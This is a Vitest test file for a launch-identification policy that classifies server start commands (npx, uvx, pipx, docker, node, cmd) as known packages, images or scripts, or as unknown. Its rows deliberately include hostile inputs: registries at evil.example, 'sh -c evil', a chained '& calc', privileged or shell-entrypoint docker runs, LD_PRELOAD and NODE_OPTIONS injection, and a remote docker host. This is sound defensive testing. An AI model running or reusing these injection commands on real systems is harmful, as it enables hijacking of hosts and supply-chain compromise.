import { describe, expect, test } from 'vitest';

import { identifyLaunch } from '../../src/policy/identify-launch.js';
import type { LaunchIdentity } from '../../src/policy/launch-identity.js';

/** What a person would type, and what it runs in short: `pkg:type/name@requested`, `image:…`, `file:…`, `script:…`, `?`. */
const ROWS: readonly (readonly [string, string])[] = [
  ['npx -y server-files', 'pkg:npm/server-files'],
  ['npx -y @scope/server@1.2.3 /home/me', 'pkg:npm/@scope/server@1.2.3'],
  ['npx.cmd --yes @scope/server@^1.2', 'pkg:npm/@scope/server@^1.2'],
  ['/usr/local/bin/npx server@latest', 'pkg:npm/server@latest'],
  ['npx -p @scope/tools@2.0.0 tools --serve', 'pkg:npm/@scope/tools@2.0.0'],
  ['npx --package=@scope/tools@2.0.0 -- tools', 'pkg:npm/@scope/tools@2.0.0'],
  ['npx -p @scope/tools@2.0.0 serve', '?'],
  ['npx -p good@1.0.0 sh -c evil', '?'],
  ['npx --package good@1.0.0', '?'],
  ['npx good@.', '?'],
  ['npx good@..', '?'],
  ['npx good@evil.tgz', '?'],
  ['npx good@evil-1.0.0.tar.gz', '?'],
  ['npx -y server@>=1.0.0', 'pkg:npm/server@>=1.0.0'],
  ['npx -y server@next', 'pkg:npm/server@next'],
  ['npx -p one -p two serve', '?'],
  ['npx --registry=https://evil.example server', '?'],
  ['npx -c curl', '?'],
  ['npx server@npm:other@1.0.0', '?'],
  ['npx ./server', '?'],
  ['npx github:user/repo', '?'],
  ['npx https://evil.example/x.tgz', '?'],
  ['npx', '?'],
  ['npm exec -y -- server@1.0.0', 'pkg:npm/server@1.0.0'],
  ['npm x server', 'pkg:npm/server'],
  ['npm exec server@1.0.0 -- --port 1', 'pkg:npm/server@1.0.0'],
  ['npm exec -y -- server@1.0.0 --registry=its-own', 'pkg:npm/server@1.0.0'],
  ['npm exec server@1.0.0 --registry=https://evil.example', '?'],
  ['npm exec -y server@1.0.0 /home/me -c evil', '?'],
  ['npm x server@1.0.0 --script-shell=/tmp/evil -- x', '?'],
  ['npm run start', '?'],
  ['pnpm dlx server@1.0.0', 'pkg:npm/server@1.0.0'],
  ['pnpm start', '?'],
  ['yarn dlx server', 'pkg:npm/server'],
  ['bunx --bun server@1.0.0', 'pkg:npm/server@1.0.0'],
  ['uvx mcp_server_time@2024.1.2', 'pkg:pypi/mcp-server-time@2024.1.2'],
  ['uvx --from mcp-server-time==2024.1.2 mcp_server_time', 'pkg:pypi/mcp-server-time@2024.1.2'],
  ['uvx --from mcp-server-time==2024.1.2 bash -c evil', '?'],
  ['uvx --from git+https://evil.example/x serve', '?'],
  ['uvx --index-url https://evil.example mcp-server-time', '?'],
  ['uv tool run mcp-server-time', 'pkg:pypi/mcp-server-time'],
  ['uv run server.py', '?'],
  ['pipx run mcp-server[extra]==1.0', 'pkg:pypi/mcp-server@1.0'],
  ['pipx run --spec mcp-server==1.0 mcp-server', 'pkg:pypi/mcp-server@1.0'],
  ['pipx run --spec mcp-server==1.0 serve', '?'],
  [`docker run -i --rm -e TOKEN ghcr.io/x/y@sha256:${'a'.repeat(64)}`, `image:ghcr.io/x/y@sha256:${'a'.repeat(64)}`],
  ['docker run --rm -it --env=A=b localhost:5000/x:1.0 --flag', 'image:localhost:5000/x'],
  ['podman run -v /a:/b name', 'image:name'],
  ['docker container run name', 'image:name'],
  [`docker run --unheard-of evil good@sha256:${'a'.repeat(64)}`, '?'],
  [`docker run -e NODE_OPTIONS=--import=data:text/javascript,evil good@sha256:${'a'.repeat(64)}`, '?'],
  [`docker run --env=LD_PRELOAD=/evil.so good@sha256:${'a'.repeat(64)}`, '?'],
  [`docker run --env-file evil good@sha256:${'a'.repeat(64)}`, '?'],
  [`docker run --runtime /tmp/evil good@sha256:${'a'.repeat(64)}`, '?'],
  [`docker run --mount type=image,src=evil,dst=/app good@sha256:${'a'.repeat(64)}`, '?'],
  [`docker run --mount dst=/app,volume-driver=local,volume-opt=o=addr=evil.example good`, '?'],
  ['docker run --mount type=bind,src=/home/me,dst=/data good', 'image:good'],
  [`docker run --entrypoint /bin/sh good@sha256:${'a'.repeat(64)}`, '?'],
  [`docker run --privileged good@sha256:${'a'.repeat(64)}`, '?'],
  ['docker exec name sh', '?'],
  ['docker --host tcp://evil.example run name', '?'],
  ['cmd /c npx -y server@1.0.0', 'pkg:npm/server@1.0.0'],
  ['cmd.exe /C npx -y server & calc', '?'],
  ['cmd /k npx server', '?'],
  ['cmd /c C:\\evil\\npx.cmd server@1.0.0', '?'],
  ['node server.js --port 1', 'script:server.js'],
  ['/opt/node22/bin/node /srv/server.js', 'script:/srv/server.js'],
  ['node --import ./evil.mjs server.js', '?'],
  ['node -e evil', '?'],
  ['node', '?'],
  ['python3.12 server.py', 'script:server.py'],
  ['python -m server', '?'],
  ['bash start.sh', 'script:start.sh'],
  ['sh -c evil', '?'],
  ['bun run server.ts', '?'],
  ['bun start', '?'],
  ['bun ./server.ts', 'script:./server.ts'],
  ['deno run server.ts', '?'],
  ['env TOKEN=x node server.js', '?'],
  ['sudo server', '?'],
  ['timeout 60 node server.js', '?'],
  ['nohup server', '?'],
  ['awk BEGIN{system("evil")}', '?'],
  ['/usr/local/bin/mcp-server --stdio', 'file:/usr/local/bin/mcp-server'],
  ['mcp-server', 'file:mcp-server'],
];

function inShort(identity: LaunchIdentity): string {
  switch (identity.kind) {
    case 'package':
      return `pkg:${identity.type}/${identity.name}${identity.requested === undefined ? '' : `@${identity.requested}`}`;
    case 'image':
      return `image:${identity.repository}${identity.digest === undefined ? '' : `@${identity.digest}`}`;
    case 'executable':
      return `${identity.isScript ? 'script' : 'file'}:${identity.file}`;
    case 'unknown':
      return '?';
  }
}

test.each([
  'npm_config_registry',
  'NPM_CONFIG_REGISTRY',
  'NODE_OPTIONS',
  'PATH',
  'LD_PRELOAD',
  'UV_INDEX_URL',
  'PYTHONPATH',
  'BASH_ENV',
  'DOCKER_HOST',
  'HOME',
  'PREFIX',
  '_JAVA_OPTIONS',
  'OPENSSL_CONF',
  'CORECLR_PROFILER',
  'REQUESTS_CA_BUNDLE',
  'PSModulePath',
  'BASH_ENV=/tmp/evil',
  'TOKEN\nPATH',
])('with %s in its environment it cannot be told', (variable) => {
  expect(inShort(identifyLaunch({ command: 'npx', args: ['server@1.0.0'], env: { [variable]: 'x' } }))).toBe('?');
});

describe('what a start command runs', () => {
  test.each(ROWS)('%s', (line, expected) => {
    const [command = '', ...args] = line.split(' ');
    expect(inShort(identifyLaunch({ command, args, env: { TOKEN: 'x', API_URL: 'y' } }))).toBe(expected);
  });
});
